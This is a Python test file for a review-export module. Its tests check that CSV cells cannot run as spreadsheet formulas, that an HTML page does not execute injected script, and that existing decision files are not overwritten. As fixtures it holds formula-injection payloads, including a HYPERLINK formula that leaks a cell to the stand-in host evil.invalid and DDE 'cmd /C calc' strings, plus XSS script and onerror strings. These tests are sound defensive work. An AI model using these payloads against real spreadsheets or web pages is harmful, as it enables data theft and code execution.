"""What is written for people: no cell is a formula, no text is markup, no file of theirs is lost."""

import csv
import json
import re
from pathlib import Path

import pytest

from catalog.review_files import read_decisions, write_reviews
from catalog.reviews import Item
from infra.errors import Refusal

FORMULAS = [
    *('=HYPERLINK("http://evil.invalid?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"),
    *(" =1+1", "|cmd", "%0A=1", "＝1+1", "'=1+1", "''=1", '=cmd|"/C calc"!A0'),
]


def item(text: str, record_id: str = "r1", choices: tuple[str, ...] = ("yes", "no")) -> Item:
    return Item(
        table="sft.demo", record_id=record_id, decides="label", question="good?", text=text, choices=choices,
        reason="", content="{}", parents=(),
    )  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_to_a_spreadsheet(tmp_path: Path, text: str) -> None:
    file = tmp_path / "review.csv"
    write_reviews([item(text, record_id=text.strip(), choices=(text, "no"))], file)
    with file.open(newline="") as opened:
        (row,) = csv.DictReader(opened)
    for cell in (row["text"], row["record_id"], row["choices"]):
        assert not re.match(r"\s*[=+\-@|%＝＋－＠]", cell)


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "it's", "'quoted'"])
def test_a_decision_comes_back_as_it_was_before_it_was_shielded(tmp_path: Path, text: str) -> None:
    file = tmp_path / "review.csv"
    write_reviews([item("text", record_id=text.strip())], file)
    file.write_text(file.read_text().replace("yes | no,", "yes | no,yes"))
    assert [given.record_id for given in read_decisions(file)] == [text.strip()]


def test_no_text_ends_the_page_or_runs_in_it(tmp_path: Path) -> None:
    text = "</script><script>alert(1)</script><img src=x onerror=alert(1)>{{data}}<!--\u2028"
    write_reviews([item(text)], tmp_path / "review.html", by='"><script>alert(2)</script>')
    page = (tmp_path / "review.html").read_text()
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    data = re.findall(r'<script[^>]*id="data"[^>]*>(.*?)</script>', page, re.DOTALL)[0]
    assert json.loads(data)["items"][0]["text"] == text
    assert "innerHTML" not in page


@pytest.mark.parametrize("name", ["review.csv", "review.jsonl", "review.html"])
def test_a_file_that_may_hold_decisions_is_not_written_over(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("decided")
    with pytest.raises(Refusal, match="may hold decisions"):
        write_reviews([item("a")], tmp_path / name)
    assert (tmp_path / name).read_text() == "decided"
    write_reviews([item("a")], tmp_path / name, overwrite=True)
    assert "good?" in (tmp_path / name).read_text()
